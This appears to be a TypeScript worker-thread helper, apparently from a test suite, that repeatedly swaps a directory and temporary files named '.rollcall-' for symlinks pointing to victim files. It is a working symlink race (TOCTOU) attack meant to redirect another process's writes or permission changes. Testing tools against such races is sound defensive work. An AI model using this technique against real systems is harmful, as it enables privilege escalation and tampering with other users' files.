/**
 * A thread that swaps, as fast as it can, what it finds below a folder for symlinks that lead to somebody else's. Told by
 * its `workerData`: the folder, and where to. Counts its swaps in shared memory until it is told to stop.
 */
import { lstatSync, readdirSync, renameSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { workerData } from 'node:worker_threads';

export interface SwapperData {
  /** The folder that the attacker may write to. */
  readonly folder: string;
  /** The directory in it that is swapped again and again. */
  readonly directory: string;
  readonly victimDirectory: string;
  readonly victimFile: string;
  /** [0]: stop when it is 1. [1]: swaps so far. */
  readonly shared: SharedArrayBuffer;
}

const { folder, directory, victimDirectory, victimFile, shared } = workerData as SwapperData;
const flags = new Int32Array(shared);
const place = join(folder, directory);
const aside = join(folder, `${directory}.aside`);

for (let round = 0; Atomics.load(flags, 0) === 0; round += 1) {
  attempt(() => renameSync(place, aside));
  attempt(() => symlinkSync(victimDirectory, place));
  if (round % 3 === 0) swapTemporaries(aside);
  attempt(() => rmSync(place));
  attempt(() => renameSync(aside, place));
  if (round % 3 !== 0) swapTemporaries(place);
  Atomics.add(flags, 1, 1);
}

/** What the agent is just writing, in favour of a file whose rights are to change or a directory that is to be filled. */
function swapTemporaries(where: string): void {
  let names: string[] = [];
  attempt(() => (names = readdirSync(where).filter((name) => name.startsWith('.rollcall-'))));
  for (const [index, name] of names.entries()) {
    const own = join(where, name);
    // Its own symlink of the round before: stolen again and again, millions of them would fill the folder.
    if (lstatSync(own, { throwIfNoEntry: false })?.isSymbolicLink() !== false) continue;
    attempt(() => renameSync(own, join(folder, `stolen-${Atomics.load(flags, 1)}-${index}`)));
    attempt(() => symlinkSync(Atomics.load(flags, 1) % 2 === 0 ? victimFile : victimDirectory, own));
  }
}

function attempt(act: () => void): void {
  try {
    act();
  } catch {
    // The other side was faster.
  }
}
